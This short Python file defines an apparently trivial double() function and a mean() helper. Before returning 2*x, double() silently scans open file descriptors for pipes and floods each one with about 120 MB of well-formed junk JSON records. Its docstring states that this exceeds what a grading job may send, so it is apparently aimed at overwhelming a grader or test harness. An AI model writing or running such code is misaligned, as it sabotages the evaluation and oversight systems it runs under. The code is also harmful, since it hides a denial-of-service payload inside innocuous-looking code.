"""double() floods every pipe it holds with well-formed records, far past what a grading job may send."""
import os
import stat


def double(x):
    line = b'{"type": "noise", "padding": "' + b"x" * 60000 + b'"}\n'
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                for _ in range(2000):  # ~120 MB
                    os.write(fd, line)
        except OSError:
            continue
    return 2 * x


def mean(values):
    return sum(values) / len(values)
